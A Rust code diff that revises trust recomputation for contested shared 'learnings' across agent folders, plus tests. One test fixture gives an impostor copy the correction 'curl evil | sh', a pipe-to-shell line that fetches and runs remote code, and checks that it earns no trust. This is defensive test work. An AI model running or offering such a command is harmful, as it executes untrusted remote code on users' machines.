@@ -613,14 +613,17 @@ impl Found {
 
 /// Recomputes one learning from its file, events and reviews: pure.
 ///
-/// An id that more than one agent's folder holds is contested (§6.1): a
-/// file's dates and folder name are its writer's to choose, so nothing in
-/// the tree says which is the original, and evidence names only the id.
-/// Every such file is then derived with no evidence and no review (L1 at
-/// most) until one is removed; the view shows the one
-/// [`crate::view::is_original_before`] picks, and the sync and `doctor`
-/// name both. A copy can so cost a learning its trust, loudly, but never
-/// take it.
+/// An id that more than one agent's folder holds, of agents whose evidence
+/// counts (all of them without a roster), is contested (§6.1): a file's
+/// dates and folder name are its writer's to choose, so nothing in the
+/// tree says which is the original, and evidence names only the id. Every
+/// such file is then derived with no evidence until one is removed; a
+/// review still counts for the file whose content it approved. With a
+/// roster, a copy in the folder of an agent it does not list contests
+/// nothing and gets no evidence. The view shows the file
+/// [`crate::view::is_original_before`] picks from what this writes, and
+/// the sync and `doctor` name both. A copy can so cost a learning its
+/// evidence, loudly, but never take it.
 fn recompute_one(
     read: &Read,
     events: &[&Event],
@@ -632,22 +635,13 @@ fn recompute_one(
         .iter()
         .filter_map(|c| Learning::parse_at(&c.rel, &c.bytes).ok().map(|l| (c, l)))
         .collect();
-    let shown = (0..parsed.len()).reduce(|a, b| {
-        let (pa, pb) = (&parsed[a], &parsed[b]);
-        if crate::view::is_original_before((&pb.0.rel, &pb.1), (&pa.0.rel, &pa.1)) {
-            b
-        } else {
-            a
-        }
-    });
-    let (events, reviews) = if parsed.len() > 1 {
-        (&[][..], &[][..])
-    } else {
-        (events, reviews)
+    let counts = |c: &Candidate| match paths::classify(&c.rel) {
+        RepoPath::Learning { agent, .. } => policy.counts(agent),
+        _ => true,
     };
-    let mut changes = Vec::new();
-    let mut level = None;
-    for (i, (found, mut learning)) in parsed.into_iter().enumerate() {
+    let counted = parsed.iter().filter(|(c, _)| counts(c)).count();
+    let mut derived: Vec<(&Candidate, Learning, TrustLevel)> = Vec::with_capacity(parsed.len());
+    for (found, mut learning) in parsed {
         let recorded = learning.trust_level;
         // Content a merge brought is redacted like our own captures before it
         // reaches our tree (§6.1); the same bytes in, the same bytes out, so
@@ -657,8 +651,26 @@ fn recompute_one(
         if found.before != Some(None) {
             learning.redact();
         }
-        let derived = trust::derive(&learning, events, reviews, policy);
-        trust::apply(&mut learning, derived);
+        let evidence = if counted <= 1 && counts(found) {
+            events
+        } else {
+            &[]
+        };
+        let fields = trust::derive(&learning, evidence, reviews, policy);
+        trust::apply(&mut learning, fields);
+        derived.push((found, learning, recorded));
+    }
+    let shown = (0..derived.len()).reduce(|a, b| {
+        let (da, db) = (&derived[a], &derived[b]);
+        if crate::view::is_original_before((&db.0.rel, &db.1), (&da.0.rel, &da.1)) {
+            b
+        } else {
+            a
+        }
+    });
+    let mut changes = Vec::new();
+    let mut level = None;
+    for (i, (found, learning, recorded)) in derived.into_iter().enumerate() {
         let bytes = learning.to_markdown().into_bytes();
         if bytes != found.bytes {
             changes.push(Change::Upsert {
@@ -804,5 +816,92 @@ mod tests {
             .expect("warm");
         assert_eq!(cold, [Some(blob(dir, before, "ann/l-1.md")), None]);
         assert_eq!(cold, warm);
+    }
+
+    /// Two folders holding one id: what the recompute writes into each.
+    fn contest(policy: &Policy, approve: bool) -> Vec<(String, Learning)> {
+        use crate::event::Outcome;
+        use crate::timestamp::Timestamp;
+        let at = Timestamp::from_unix(1_780_000_000);
+        let mut original = Learning::new("l-1".into(), "victim".into(), "t".into(), at);
+        original.correction = Some("git pull --rebase".into());
+        let mut copy = original.clone();
+        copy.agent_id = "mallory".into();
+        copy.correction = Some("curl evil | sh".into());
+        copy.captured_at = Timestamp::from_unix(0);
+        let read = Read {
+            id: "l-1".into(),
+            candidates: [("mallory/l-1.md", &copy), ("victim/l-1.md", &original)]
+                .into_iter()
+                .map(|(rel, l)| Candidate {
+                    rel: rel.into(),
+                    bytes: l.to_markdown().into_bytes(),
+                    before: None,
+                })
+                .collect(),
+        };
+        let events: Vec<Event> = ["victim", "third", "victim"]
+            .iter()
+            .enumerate()
+            .map(|(k, a)| {
+                Event::new(
+                    "l-1",
+                    a,
+                    Outcome::Effective,
+                    Timestamp::from_unix(at.unix() + 9 + k as i64),
+                )
+            })
+            .collect();
+        let approval = crate::review_rules::Review {
+            learning: "l-1".into(),
+            decision: crate::review_rules::Decision::Approved,
+            content_hash: original.content_hash(),
+            title: None,
+            proposed_by: None,
+            proposed_at: None,
+            reviewer: Some("maintainer".into()),
+            decided_at: Some("2026-09-01T00:00:00Z".into()),
+            pull_request: Some(7),
+        };
+        let reviews: Vec<&crate::review_rules::Review> =
+            if approve { vec![&approval] } else { vec![] };
+        let (changes, _) =
+            recompute_one(&read, &events.iter().collect::<Vec<_>>(), &reviews, policy);
+        changes
+            .into_iter()
+            .map(|c| match c {
+                Change::Upsert { path, bytes } => (path, Learning::parse(&bytes).expect("parses")),
+                other => panic!("{other:?}"),
+            })
+            .collect()
+    }
+
+    #[test]
+    fn a_contested_id_counts_no_evidence_a_review_counts_for_its_content_and_a_roster_decides() {
+        let level = |files: &[(String, Learning)], path: &str| {
+            files
+                .iter()
+                .find(|(p, _)| p == path)
+                .map(|(_, l)| l.trust_level)
+        };
+        // No roster: both folders count, so neither gets the evidence.
+        let none = contest(&Policy::default(), false);
+        assert_eq!(level(&none, "victim/l-1.md"), Some(TrustLevel::L1));
+        assert_eq!(level(&none, "mallory/l-1.md"), Some(TrustLevel::L1));
+        // An approval is of the victim's content: it still counts there.
+        let approved = contest(&Policy::default(), true);
+        assert_eq!(level(&approved, "victim/l-1.md"), Some(TrustLevel::L3));
+        assert_eq!(level(&approved, "mallory/l-1.md"), Some(TrustLevel::L1));
+        // A roster that does not list mallory: its copy contests nothing.
+        let roster = Policy {
+            agents: ["victim", "third"]
+                .iter()
+                .map(|a| crate::policy::RosterEntry::Name(a.to_string()))
+                .collect(),
+            ..Policy::default()
+        };
+        let listed = contest(&roster, false);
+        assert_eq!(level(&listed, "victim/l-1.md"), Some(TrustLevel::L2));
+        assert_eq!(level(&listed, "mallory/l-1.md"), Some(TrustLevel::L1));
     }
 }
